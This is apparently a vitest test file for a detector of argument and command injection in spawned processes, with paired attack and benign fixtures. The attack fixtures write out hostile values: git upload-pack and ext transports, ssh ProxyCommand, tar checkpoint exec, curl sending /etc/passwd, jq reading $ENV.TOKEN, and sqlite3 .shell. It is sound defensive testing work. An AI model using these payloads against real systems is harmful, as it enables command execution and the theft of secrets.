import { describe, expect, it } from 'vitest';
import type { SpawnOperation } from '../operation.ts';
import { argvInjection } from './argv-injection.ts';
import { constants, judgeWith } from './judge-with.test-helper.ts';

const spawn = (file: string, ...args: string[]): SpawnOperation => ({
  kind: 'process.spawn',
  call: 'child_process.spawn',
  file,
  arguments: args,
});
const exec = (shellCommand: string): SpawnOperation => ({
  kind: 'process.spawn',
  call: 'child_process.exec',
  file: '/bin/sh',
  arguments: ['-c', shellCommand],
  shellCommand,
});

const attacks: readonly (readonly [string, SpawnOperation, Record<string, unknown>])[] = [
  ['program by path', spawn('/bin/sh', '-i'), { query: { p: '/bin/sh' } }],
  ['program out of its folder', spawn('./scripts/../../../bin/id'), { query: { p: '../../../bin/id' } }],
  ['git upload-pack', spawn('git', 'ls-remote', '--upload-pack=id', 'origin'), { query: { r: '--upload-pack=id' } }],
  [
    'git upload-pack in a shell, in quotes of its own',
    {
      ...spawn('/bin/sh', '-c', "git clone --depth 1 --upload-pack='touch /x;true' file:///p /srv/c"),
      shellCommand: "git clone --depth 1 --upload-pack='touch /x;true' file:///p /srv/c",
    },
    { body: { url: "--upload-pack='touch /x;true' file:///p" } },
  ],
  ['git upload-pack, shortened', spawn('git', 'fetch', '--upload-p=id'), { query: { r: '--upload-p=id' } }],
  ['git -c', spawn('git', '-c', 'core.pager=id', 'log'), { query: { a: ['-c', 'core.pager=id'] } }],
  ['git ext transport', spawn('git', 'clone', 'ext::sh -c id', 'x'), { query: { r: 'ext::sh -c id' } }],
  ['git -C in front of the command', spawn('git', '-C', '/etc', 'log'), { query: { a: ['-C', '/etc'] } }],
  ['git clone -c', spawn('git', 'clone', '-c', 'core.x=y', 'u'), { query: { a: ['-c', 'core.x=y'] } }],
  ['a file for a script', spawn('sh', '/srv/letter.sh', '--file', '/etc/passwd'), { query: { t: '/etc/passwd' } }],
  ['git grep -O', spawn('git', 'grep', '-Oid', 'x'), { query: { f: '-Oid' } }],
  [
    'a condition in a statement for psql',
    spawn('psql', '-c', "SELECT a FROM b WHERE c = 'x' OR 1=1 --'"),
    { query: { c: "x' OR 1=1 --" } },
  ],
  [
    'a file for \\copy of psql',
    spawn('psql', '-c', "\\copy (SELECT 1) TO '/etc/cron.d/x'"),
    { query: { t: '/etc/cron.d/x' } },
  ],
  ['git --output', spawn('git', 'diff', '--output=/tmp/x'), { query: { r: '--output=/tmp/x' } }],
  ['find -exec, split', spawn('find', '.', '-name', 'x', '-exec', 'id', ';'), { query: { n: 'x -exec id ;' } }],
  ['find -exec, array', spawn('find', '.', '-exec', 'id', ';'), { body: Buffer.from('{"args":["-exec","id",";"]}') }],
  ['find -fprintf', spawn('find', '.', '-fprintf', '/tmp/x', 'a'), { query: { a: ['-fprintf', '/tmp/x', 'a'] } }],
  [
    'tar checkpoint',
    spawn('tar', 'cf', 'x', '--checkpoint-action=exec=id'),
    { query: { f: '--checkpoint-action=exec=id' } },
  ],
  ['ssh proxy', spawn('ssh', '-oProxyCommand=id', 'host'), { query: { h: '-oProxyCommand=id' } }],
  ['curl output', spawn('curl', '-o', '/tmp/x', 'http://e'), { query: { a: '-o /tmp/x' } }],
  ['curl attached', spawn('curl', '-o/tmp/x'), { query: { a: '-o/tmp/x' } }],
  [
    'node -e',
    spawn('node', '-e', "require('fs').writeFileSync('/tmp/x','')"),
    { query: { c: "require('fs').writeFileSync('/tmp/x','')" } },
  ],
  [
    'node -e breakout',
    spawn('node', '-e', 'console.log("a");process.exit();//")'),
    { query: { c: 'a");process.exit();//' } },
  ],
  [
    'python -c',
    spawn('python3', '-c', "print('a');__import__('os').system('id')#')"),
    { query: { c: "a');__import__('os').system('id')#" } },
  ],
  ['perl -e', spawn('perl', '-e', 'system("id")'), { query: { c: 'system("id")' } }],
  ['awk program', spawn('awk', 'BEGIN{system("id")}'), { query: { c: 'BEGIN{system("id")}' } }],
  ['env program', spawn('env', '/tmp/evil'), { query: { c: '/tmp/evil' } }],
  ['file argument', spawn('cat', '/etc/passwd'), { query: { f: '/etc/passwd' } }],
  ['file argument climbs', spawn('cat', 'files/../../../etc/passwd'), { query: { f: '../../../etc/passwd' } }],
  ['option in a shell text', exec('git log --output=/tmp/x'), { query: { r: '--output=/tmp/x' } }],
  ['option behind a blank in a shell text', exec('curl http://e -o /tmp/x'), { query: { u: 'http://e -o /tmp/x' } }],
  ['unknown program', spawn('mytool', '--exec=id'), { query: { x: '--exec=id' } }],
  ['a command line, split', spawn('/bin/touch', '/tmp/x'), { query: { c: ' /bin/touch  /tmp/x' } }],
  ['a coder of ImageMagick', spawn('convert', 'text:/etc/passwd', 'o.png'), { query: { u: 'text:/etc/passwd' } }],
  ["behind the program's coder", spawn('convert', 'label:@/etc/passwd', 'o.png'), { query: { u: '@/etc/passwd' } }],
  ['a protocol of ffmpeg', spawn('ffmpeg', '-i', 'concat:/etc/passwd|x'), { query: { u: 'concat:/etc/passwd|x' } }],
  ['a file URL', spawn('curl', '-s', 'file:///etc/passwd'), { query: { u: 'file:///etc/passwd' } }],
  ['a command of sqlite3', spawn('sqlite3', ':memory:', '.shell id'), { query: { q: '.shell id' } }],
  ['a setting of ssh', spawn('ssh', '-o', 'ProxyCommand=id', 'host'), { query: { o: 'ProxyCommand=id' } }],
  ['a setting of ssh, joined', spawn('ssh', '-oproxycommand id', 'host'), { query: { o: 'proxycommand id' } }],
  ['a variable of make', spawn('make', 'hello', 'NAME=$(shell id)'), { query: { n: '$(shell id)' } }],
  ['a variable of make, a quote', spawn('make', 'hello', 'NAME=x"; id; "'), { query: { n: 'x"; id; "' } }],
  ['curl sends a file', spawn('curl', '-d', '@/etc/passwd', 'http://e'), { query: { m: '@/etc/passwd' } }],
  ['curl sends a file, named', spawn('curl', '--data-urlencode', 'm@/etc/passwd'), { query: { m: '@/etc/passwd' } }],
  ['curl sends a file in a form', spawn('curl', '-F', 'm=<../../x', 'http://e'), { query: { m: '<../../x' } }],
  ['jq, the environment', spawn('jq', '-r', '.name, $ENV.TOKEN'), { query: { f: 'name, $ENV.TOKEN' } }],
  ['jq, the environment as a function', spawn('jq', '.name|env.TOKEN'), { query: { f: 'name|env.TOKEN' } }],
  ['gdb, a shell', spawn('gdb', '-batch', '-ex', 'shell id'), { query: { c: 'shell id' } }],
  ['vim writes', spawn('vim', '-es', '-c', 'write /tmp/x'), { query: { c: 'write /tmp/x' } }],
  ['sed writes', spawn('sed', '-e', '1,$ w /tmp/x'), { query: { s: '1,$ w /tmp/x' } }],
  ['awk, the end of a pattern', spawn('awk', '/a/ {system("id")} /b/'), { query: { w: 'a/ {system("id")} /b' } }],
  ['perl, code in a pattern', spawn('perl', '-ne', 'print if /(?{`id`})/'), { query: { w: '(?{`id`})' } }],
  ['flock', spawn('flock', '/tmp/lock', '/tmp/evil'), { query: { c: '/tmp/evil' } }],
  [
    'sqlite3, a line of its input',
    { ...spawn('sqlite3', 'a.db'), standardInput: 'select 1;\n.system id\n' },
    { query: { q: 'select 1;\n.system id' } },
  ],
  [
    'sqlite3, a function of its input',
    { ...spawn('sqlite3', 'a.db'), standardInput: "select writefile('/tmp/x', 'y');\n" },
    { query: { q: "select writefile('/tmp/x', 'y');" } },
  ],
  ['ed', { ...spawn('ed', 'a.txt'), standardInput: '!id\nQ\n' }, { query: { l: '!id' } }],
  ['envsubst', { ...spawn('envsubst'), standardInput: 'Hello $PATH' }, { query: { t: 'Hello $PATH' } }],
  ['a script made for python', { ...spawn('python3', 'job.py'), script: 'print(x);f()' }, { query: { c: 'x);f(' } }],
  ['an alias of git', spawn('git', '-c', 'alias.last=!id', 'last'), { query: { a: '!id' } }],
  ["behind the program's dash", spawn('openssl', 'dgst', '-out=/tmp/x'), { query: { a: 'out=/tmp/x' } }],
  ['a climb, and a slash', spawn('cat', '/a/pub/../x'), { query: { f: '../x', s: '/' } }],
  [
    'python on its input',
    { ...spawn('python3', '-'), standardInput: "print('');import os#')" },
    { query: { c: "');import os#" } },
  ],
  ['a file behind a pattern', spawn('grep', 'root', '/etc/passwd'), { query: { f: '/etc/passwd' } }],
  ['a file behind a given pattern', spawn('grep', '-e', 'root', '/etc/passwd'), { query: { f: '/etc/passwd' } }],
];

const benign: readonly (readonly [string, SpawnOperation, Record<string, unknown>])[] = [
  [
    'a setting of ssh that only counts',
    spawn('ssh', '-o', 'ConnectTimeout=3', 'h'),
    { query: { o: 'ConnectTimeout=3' } },
  ],
  ['a variable of make', spawn('make', 'hello', "NAME=O'Brien & Sons"), { query: { n: "O'Brien & Sons" } }],
  ['curl, an address of somebody', spawn('curl', '-d', 'to=ann@example.com'), { query: { m: 'to=ann@example.com' } }],
  ['curl, a text as it is', spawn('curl', '--data-raw', '@/etc/passwd'), { query: { m: '@/etc/passwd' } }],
  ['curl, somebody is meant', spawn('curl', '-d', '@ann thanks'), { query: { m: '@ann thanks' } }],
  ['jq, fields', spawn('jq', '-r', '.name, .env, .size + 1'), { query: { f: 'name, .env, .size + 1' } }],
  ['jq, a field by its name', spawn('jq', '-r', '--arg', 'f', 'env', '.[$f]'), { query: { f: 'env' } }],
  ['gdb, a number', spawn('gdb', '-batch', '-ex', 'print 1+2'), { query: { c: 'print 1+2' } }],
  ['vim, a setting', spawn('vim', '-es', '-c', 'set number'), { query: { c: 'set number' } }],
  ['awk, a pattern', spawn('awk', '/^b(c|d)$/ { print }'), { query: { w: '^b(c|d)$' } }],
  ['awk, fields', spawn('awk', '{ print $1, $NF }'), { query: { c: '1, $NF' } }],
  ['awk, a variable', spawn('awk', '-v', 'w=a; system("x")', 'index($0, w)'), { query: { w: 'a; system("x")' } }],
  ['perl, a pattern', spawn('perl', '-ne', 'print if /^a|b$/'), { query: { w: '^a|b$' } }],
  ['python counts', spawn('python3', '-c', 'print((3.5-1)*2)'), { query: { s: '(3.5-1)*2' } }],
  [
    'what stands behind a script',
    spawn('node', 'job.cjs', '-e', 'process.exit(1)'),
    { query: { a: ['-e', 'process.exit(1)'] } },
  ],
  [
    'sqlite3, a query',
    { ...spawn('sqlite3', 'a.db'), standardInput: ".mode csv\nselect 'a; .b', 5 > 3;\n" },
    { query: { q: ".mode csv\nselect 'a; .b', 5 > 3;" } },
  ],
  [
    'sqlite3, a note',
    { ...spawn('sqlite3', 'a.db'), standardInput: "insert into notes values ('please attach\n.shell x');\n" },
    { query: { note: 'please attach\n.shell x' } },
  ],
  ['jq, a word in quotes', spawn('jq', '.[] | select(.kind == "env")'), { query: { kind: 'env' } }],
  ['ed, a line', { ...spawn('ed', 'a.txt'), standardInput: '1,3p\nQ\n' }, { query: { l: '1,3p' } }],
  ['envsubst, nobody sets it', { ...spawn('envsubst'), standardInput: 'costs $FIVE' }, { query: { t: 'costs $FIVE' } }],
  [
    'envsubst, of one variable',
    { ...spawn('envsubst', '$TITLE'), standardInput: 'Hello $PATH' },
    { query: { t: 'Hello $PATH' } },
  ],
  ['plain argument', spawn('git', 'log', 'main'), { query: { r: 'main' } }],
  ['git grep -c', spawn('git', 'grep', '-c', 'x'), { query: { f: '-c' } }],
  ['git grep -F', spawn('git', 'grep', '-F', 'x'), { query: { f: '-F' } }],
  ['git commit -c', spawn('git', 'commit', '-c', 'HEAD'), { query: { f: '-c' } }],
  [
    'a value in a statement for psql',
    spawn('psql', '-c', "SELECT a FROM b WHERE c = 'x -- y; z'"),
    { query: { c: 'x -- y; z' } },
  ],
  [
    'a statement of somebody for sqlite3',
    spawn('sqlite3', ':memory:', 'SELECT 1 WHERE 1 = 1'),
    { query: { q: 'SELECT 1 WHERE 1 = 1' } },
  ],
  [
    'a file of its own for \\copy',
    spawn('psql', '-c', "\\copy (SELECT 1) TO '/srv/out/x.csv'"),
    { query: { t: 'x.csv' } },
  ],
  ['an address that is printed', spawn('echo', 'file:///etc/passwd'), { query: { t: 'file:///etc/passwd' } }],
  ['a text for jq', spawn('jq', '-n', '--arg', 'v', '/etc/passwd', '{v: $v}'), { query: { v: '/etc/passwd' } }],
  ['a title for a script', spawn('sh', '/srv/letter.sh', '--title', '/etc/passwd'), { query: { t: '/etc/passwd' } }],
  ['git -C behind the command', spawn('git', 'log', '-C', 'main'), { query: { a: ['-C', 'main'] } }],
  ['equal to the program', spawn('git', 'status'), { query: { x: 'git' } }],
  ['behind --', spawn('git', 'log', '--', '--output=x'), { query: { r: '--output=x' } }],
  ['commit message', spawn('git', 'commit', '-m', '--exec is gone'), { query: { m: '--exec is gone' } }],
  ['grep pattern', spawn('grep', '-e', '-f', 'x.txt'), { query: { p: '-f' } }],
  ['a path to search for', spawn('grep', '-e', '/etc/passwd', 'x.txt'), { query: { p: '/etc/passwd' } }],
  ['a path to search for first', spawn('grep', '-c', '/etc/passwd', 'x.txt'), { query: { p: '/etc/passwd' } }],
  ['negative number', spawn('seq', '-5', '5'), { query: { from: '-5' } }],
  ['shell text as data', spawn('echo', '; id $(x)'), { query: { x: '; id $(x)' } }],
  ['echo of a path', spawn('echo', '/etc/passwd'), { query: { x: '/etc/passwd' } }],
  ['echo of an option', spawn('echo', '--exec=id'), { query: { x: '--exec=id' } }],
  ['harmless option', spawn('ls', '-la'), { query: { x: '-la' } }],
  ['file in its folder', spawn('cat', 'files/a/../b'), { query: { f: 'a/../b' } }],
  ['url', spawn('curl', 'https://example.com/?a=1&b=2'), { query: { u: 'https://example.com/?a=1&b=2' } }],
  ['node script with data', spawn('node', '-e', 'console.log("hello world")'), { query: { c: 'hello world' } }],
  ['python with data', spawn('python3', '-c', 'print("x; y (z)")'), { query: { c: 'x; y (z)' } }],
  ['node script argument', spawn('node', 'worker.js', 'process.exit()'), { query: { c: 'process.exit()' } }],
  ['$1 of a script', spawn('sh', '-c', 'printf "%s" "$1"', 'sh', '--output=x'), { query: { x: '--output=x' } }],
  ['a picture with its format', spawn('convert', 'png:a.dat', 'o.png'), { query: { u: 'png:a.dat' } }],
  ['words that go on otherwise', spawn('git', 'log', 'main'), { query: { c: 'git log is nice' } }],
  ['a file URL inside', spawn('curl', 'file:///srv/app/a.txt'), { query: { u: 'file:///srv/app/a.txt' } }],
  ['data on its input', { ...spawn('python3', 'x.py'), standardInput: "');id()#" }, { query: { c: "');id()#" } }],
  ['not given', spawn('tar', 'cf', 'x', '--checkpoint-action=exec=id'), { query: { x: 'a' } }],
];

describe('argv-injection', () => {
  it('knows a route that is named after a tool from a tool that somebody chose', () => {
    const program = spawn('curl', '-s', 'https://example.com');
    const isConstant = constants("app.get('/tools/curl', () => said('curl', args))", "pick('id')");
    const path = { path: '/tools/curl' };
    expect(judgeWith(argvInjection, program, path, { isConstant })).toBeUndefined();
    expect(judgeWith(argvInjection, program, { query: { tool: 'curl' } }, { isConstant })).toBeDefined();
    expect(judgeWith(argvInjection, spawn('id'), { path: '/run/id' }, { isConstant })).toBeDefined();
    const list = constants("run('curl', ['-s', url])");
    expect(judgeWith(argvInjection, program, { query: { tool: 'curl' } }, { isConstant: list })).toBeUndefined();
  });
  it.each(attacks)('finds: %s', (_, operation, inputs) => {
    expect(judgeWith(argvInjection, operation, inputs)).toBeDefined();
  });
  it.each(benign)('leaves alone: %s', (_, operation, inputs) => {
    expect(judgeWith(argvInjection, operation, inputs)).toBeUndefined();
  });
  it("knows the program's own short option from one that stands beside the user's words", () => {
    const options = { isConstant: constants("['-o', 'BatchMode=yes']") };
    const given = { query: { extra: ['-o', '/tmp/x'] } };
    expect(judgeWith(argvInjection, spawn('curl', '-o', '/tmp/x', 'http://e'), given, options)).toBeDefined();
    expect(judgeWith(argvInjection, spawn('ssh', '-o', 'BatchMode=yes'), given, options)).toBeUndefined();
  });
  it('takes a command line that the program holds for its own', () => {
    const listed = { isConstant: constants("const tasks = ['uptime -p', 'df -h'];") };
    const given = { query: { task: 'df -h' } };
    expect(judgeWith(argvInjection, spawn('df', '-h'), given, listed)).toBeUndefined();
    expect(judgeWith(argvInjection, spawn('df', '-h'), given, { isConstant: constants('split(" ")') })).toBeDefined();
  });
  it("knows the name of a field that the program asks for from one of the user's own", () => {
    const text = { isConstant: constants('fetchPage({ url: request.query.url })') };
    const named = spawn('curl', '--url', 'http://shop.example/');
    expect(judgeWith(argvInjection, named, { query: { url: 'http://shop.example/' } }, text)).toBeUndefined();
    const output = spawn('curl', '--output', '/tmp/x', '--url', 'http://shop.example/');
    expect(
      judgeWith(argvInjection, output, { query: { url: 'http://shop.example/', output: '/tmp/x' } }, text),
    ).toBeDefined();
  });
  it('knows a user-chosen program from an equal name', () => {
    const id = spawn('whoami');
    expect(
      judgeWith(argvInjection, id, { query: { c: 'whoami' } }, { isConstant: constants('execFile(c)') }),
    ).toBeDefined();
    expect(
      judgeWith(argvInjection, id, { query: { c: 'whoami' } }, { isConstant: constants("execFile('whoami')") }),
    ).toBeUndefined();
    expect(
      judgeWith(
        argvInjection,
        spawn('uptime'),
        { query: { c: 'uptime' } },
        { isConstant: constants("const tools = ['date', 'uptime'];") },
      ),
    ).toBeUndefined();
  });
});
